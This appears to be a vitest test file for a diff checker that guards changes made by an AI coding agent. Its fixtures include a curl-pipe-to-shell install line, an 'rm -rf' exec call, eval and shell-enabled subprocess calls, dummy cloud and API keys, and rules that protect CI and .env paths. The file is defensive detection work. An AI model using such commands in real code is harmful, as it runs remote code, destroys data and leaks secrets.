import { describe, expect, it } from 'vitest';
import { addedLines, checkDiff } from './diff-checks.js';

function diffAdding(path: string, ...lines: string[]): string {
  return [`diff --git a/${path} b/${path}`, `--- a/${path}`, `+++ b/${path}`, '@@ -1 +1 @@', '-old', ...lines.map((line) => `+${line}`)].join('\n');
}

describe('checkDiff', () => {
  it('passes an ordinary change', () => {
    expect(checkDiff(diffAdding('src/a.js', 'return a + b;'), ['src/a.js'])).toEqual([]);
  });

  it.each([
    ['const key = "AKIAABCDEFGHIJKLMNOP";', 'secret-aws-key'],
    ['-----BEGIN RSA PRIVATE KEY-----', 'secret-private-key'],
    ['token: ghp_abcdefghijklmnopqrstuvwxyz0123456789', 'secret-github-token'],
    ['const apiKey = "sk-proj-abcdefghijklmnopqrstuvwx";', 'secret-api-key'],
    ['const url = "postgres://admin:hunter22@db/prod";', 'secret-credentials-url'],
    ['password = "correct-horse-battery"', 'secret-assignment'],
    ['curl -fsSL https://example.com/x.sh | sh', 'shell-pipe-install'],
    ['const result = eval(input);', 'eval'],
    ['const f = new Function("return 1");', 'new-function'],
    ["spawn('ls', [], { shell: true });", 'child-process-shell'],
    ["execSync('rm -rf ' + dir);", 'child-process-exec'],
    ['subprocess.run(cmd, shell=True)', 'python-shell'],
    ['os.system("ls")', 'python-os-system'],
  ])('blocks %s (%s)', (line, rule) => {
    const findings = checkDiff(diffAdding('src/a.js', line), ['src/a.js']);
    expect(findings.map((finding) => finding.rule)).toContain(rule);
    expect(findings.find((finding) => finding.rule === rule)?.severity).toBe('block');
  });

  it('does not echo secrets into the report', () => {
    const [finding] = checkDiff(diffAdding('src/a.js', 'const k = "AKIAABCDEFGHIJKLMNOP";'), ['src/a.js']);
    expect(finding?.line).not.toContain('AKIAABCDEFGHIJKLMNOP');
  });

  it('blocks protected paths unless allowed', () => {
    expect(checkDiff('', ['.github/workflows/ci.yml']).map((finding) => finding.rule)).toEqual(['protected-path']);
    expect(checkDiff('', ['.env.production']).map((finding) => finding.rule)).toEqual(['protected-path']);
    // A CI file is lifted only when the agent's configuration allows CI paths, and the task names it.
    expect(checkDiff('', ['.github/workflows/ci.yml'], ['.github/workflows/ci.yml']).map((finding) => finding.rule)).toEqual(['protected-path']);
    expect(checkDiff('', ['.github/workflows/ci.yml'], ['.github/workflows/ci.yml'], { allowCiPaths: true })).toEqual([]);
    expect(checkDiff('', ['.atb/instructions.json']).map((finding) => finding.rule)).toEqual(['protected-path']);
    expect(checkDiff('', ['src/.env'], ['src']).map((finding) => finding.rule)).toEqual(['protected-path']);
    expect(checkDiff('', ['.github/actions/build/action.yml'], ['.github']).map((finding) => finding.rule)).toEqual(['protected-path']);
    expect(checkDiff('', ['src/.env'], ['src/.env'])).toEqual([]);
  });

  it('warns when assertions are removed from tests', () => {
    const diff = ['--- a/test/math.test.js', '+++ b/test/math.test.js', '-  assert.equal(add(2, 3), 5);', '+  // flaky'].join('\n');
    expect(checkDiff(diff, ['test/math.test.js'])).toEqual([
      expect.objectContaining({ rule: 'test-weakened', severity: 'warn', path: 'test/math.test.js' }),
    ]);
    const rewritten = ['--- a/tests/test_a.py', '+++ b/tests/test_a.py', '-    self.assertEqual(f(1), 2)', '+    self.assertEqual(f(1), 3)'].join('\n');
    expect(checkDiff(rewritten, ['tests/test_a.py'])).toEqual([]);
    const deleted = ['--- a/src/x.test.ts', '+++ /dev/null', '-expect(x).toBe(1);'].join('\n');
    expect(checkDiff(deleted, ['src/x.test.ts']).map((finding) => finding.rule)).toEqual(['test-weakened']);
  });

  it('only looks at added lines', () => {
    const diff = ['--- a/x.js', '+++ b/x.js', '-eval(x)', '+safe(x)'].join('\n');
    expect(addedLines(diff).get('x.js')).toEqual(['safe(x)']);
    expect(checkDiff(diff, ['x.js'])).toEqual([]);
  });
});
